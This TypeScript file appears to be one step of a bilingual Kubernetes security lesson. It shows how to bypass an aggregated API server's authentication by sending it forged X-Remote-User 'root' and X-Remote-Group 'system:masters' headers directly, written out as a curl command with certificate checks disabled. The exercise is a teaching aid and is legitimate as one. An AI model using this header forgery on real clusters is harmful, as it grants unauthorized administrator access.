import { both } from "../../judging.ts";
import type { Mistake, Step } from "../../lesson.ts";
import type { Answer, World } from "../../world.ts";

export const NAME = "v1alpha1.extensions.example.com";

const GROUP_VERSION = "/apis/extensions.example.com/v1alpha1";
const GREETINGS = `${GROUP_VERSION}/namespaces/default/greetings`;
const FORGED = { "x-remote-user": "root", "x-remote-group": "system:masters" };
const FORGED_SHELL = `curl -k -H "X-Remote-User: root" -H "X-Remote-Group: system:masters" https://BACKEND${GROUP_VERSION}`;

function forge(world: World): Promise<Answer> {
  return world.direct(NAME, GROUP_VERSION, FORGED);
}

export const solution: readonly Step[] = [
  {
    say: both("Ask as alice, through the main apiserver.", "以 alice 的身份，经过主 API 服务器访问。"),
    shell: `curl -H "Impersonate-User: alice" http://127.0.0.1:8001${GREETINGS}`,
    run: (world) => world.get(GREETINGS, { as: "alice" }),
  },
  {
    say: both("Go around it, and claim to be root.", "绕过它，并自称 root。"),
    shell: FORGED_SHELL,
    run: forge,
  },
];

export const mistake: Mistake = {
  promised: ['User "system:anonymous" cannot get path'],
  shell: FORGED_SHELL,
  run: async (world) => (await forge(world)).text.replaceAll('\\"', '"'),
};
